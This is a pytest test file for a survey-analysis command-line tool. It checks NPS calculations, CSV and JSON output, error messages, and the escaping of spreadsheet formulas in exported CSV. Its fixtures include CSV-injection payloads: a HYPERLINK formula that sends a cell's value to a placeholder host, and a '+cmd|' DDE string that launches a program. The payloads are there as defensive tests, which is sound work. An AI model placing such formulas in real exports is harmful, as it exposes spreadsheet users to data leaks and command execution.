"""`patronage analyze` on files and on the database; rendering and CSV safety."""

from __future__ import annotations

import json

import pandas as pd
import pytest
from click.testing import CliRunner

from patronage.reporting.render import render
from patronage.satisfaction import survey_data_from_csv
from patronage.satisfaction.indices import nps_table
from patronage.analytics import nps_summary
from patronage.cli import main


@pytest.fixture
def answers_csv(tmp_path):
    path = tmp_path / "wave.csv"
    path.write_text(
        "wave,region,nps,overall_satisfaction,comment\n"
        "Q1,East,10,9,=HYPERLINK(\"http://x?\"&A1)\n"
        "Q1,West,6,5,ok\n"
        "Q1,East,,7,skipped the NPS question\n"
        "Q2,East,9,8,\n"
        "Q2,West,8,,好\n",
        encoding="utf-8",
    )
    return path


def test_nps_by_wave_matches_the_metric_and_keeps_missing_out(answers_csv):
    table = nps_table(survey_data_from_csv(answers_csv), by="wave")
    assert list(table.index) == ["Q1", "Q2"]
    # Q1 has two NPS answers (10 and 6): the blank is missing, not a zero (which would be a detractor).
    assert table.loc["Q1", "n"] == 2
    expected = nps_summary(pd.Series([10, 6]))
    assert table.loc["Q1", "nps"] == pytest.approx(expected["nps"]) == 0.0
    assert table.loc["Q2", "nps"] == pytest.approx(50.0)


def test_cli_json_and_csv(answers_csv):
    runner = CliRunner()
    out = runner.invoke(main, ["analyze", "nps", "--file", str(answers_csv), "--format", "json"])
    assert out.exit_code == 0, out.output
    rows = json.loads(out.output)
    assert [r["wave"] for r in rows] == ["Q1", "Q2"]
    csv_out = runner.invoke(main, ["analyze", "nps", "--file", str(answers_csv), "--by", "region",
                                   "--format", "csv"])
    assert csv_out.output.startswith("\ufeffregion,")
    assert "East," in csv_out.output


def test_cli_reports_bad_grouping_without_traceback(answers_csv):
    out = CliRunner().invoke(main, ["analyze", "nps", "--file", str(answers_csv), "--by", "planet"])
    assert out.exit_code == 1
    assert "Cannot group by 'planet'" in out.output
    assert "Traceback" not in out.output


def test_file_with_text_in_a_score_column_names_line_and_column(tmp_path):
    path = tmp_path / "bad.csv"
    path.write_text("wave,nps\nQ1,10\nQ1,ten\n", encoding="utf-8")
    out = CliRunner().invoke(main, ["analyze", "nps", "--file", str(path)])
    assert out.exit_code == 1
    assert "bad.csv, line 3, column nps: 'ten' is not a number" in out.output


def test_csv_rendering_escapes_formulas_but_keeps_numbers():
    frame = pd.DataFrame({"comment": ["=1+2", "+cmd|'/C calc'!A0", "@SUM(1)", "-2+3", "\t=1", "fine"],
                          "score": [-12.5, 0, 1, 2, 3, 4]})
    text = render(frame, "csv")
    lines = text.lstrip("\ufeff").splitlines()
    assert lines[1] == "'=1+2,-12.5"
    assert lines[3].startswith("'@SUM(1),")
    assert lines[4].startswith("'-2+3,")
    assert lines[5].startswith("'\t=1,") or lines[5].startswith("\"'\t=1\",")
    assert lines[6] == "fine,4.0"


def test_a_huge_repeated_response_id_is_cut_in_the_message(tmp_path):
    big = "9" * 300_000
    path = tmp_path / "big.csv"
    path.write_text(f"response_id,wave,nps\n{big},Q1,9\n{big},Q1,5\n", encoding="utf-8")
    out = CliRunner().invoke(main, ["analyze", "nps", "--file", str(path)])
    assert out.exit_code == 1 and "appears twice" in out.output
    assert "300,000 characters" in out.output and len(out.output) < 1000
